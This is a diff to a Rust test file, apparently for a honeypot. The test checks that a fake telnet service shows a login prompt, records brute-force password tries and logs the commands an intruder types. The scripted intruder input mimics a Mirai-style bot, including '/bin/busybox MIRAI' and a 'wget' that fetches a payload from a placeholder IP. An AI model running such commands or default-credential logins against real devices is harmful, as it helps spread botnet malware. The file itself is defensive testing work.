@@ -41,9 +41,19 @@ async fn medusa_believes_that_it_was_let_in() {
 async fn a_telnet_client_gets_a_shell_at_the_second_try_and_its_commands_are_told() {
     let mut traps = letting_in(2);
     let port = traps.port("telnet").to_string();
-    let lines = ["root\r", "one\r", "root\r", "two\r", "sh\r", "/bin/busybox MIRAI\r", "wget http://198.51.100.9/i\r", "exit\r"];
+    let lines = [
+        "root\r",
+        "one\r",
+        "root\r",
+        "two\r",
+        "sh\r",
+        "/bin/busybox MIRAI\r",
+        "wget http://198.51.100.9/i\r",
+        "exit\r",
+        "exit\r",
+    ];
     let said = printed(&run_until_it_leaves("busybox", &["telnet", "127.0.0.1", &port], &lines).await);
-    assert!(said.contains("localhost login: ") && said.contains("Login incorrect"), "{said}");
+    assert!(said.contains("gateway login: ") && said.contains("Login incorrect"), "{said}");
     assert!(said.contains("MIRAI: applet not found"), "{said}");
     assert_eq!(traps.tries("telnet", 2).await, owned(&[("root", "one"), ("root", "two")]));
     for command in ["sh", "/bin/busybox MIRAI", "wget http://198.51.100.9/i"] {
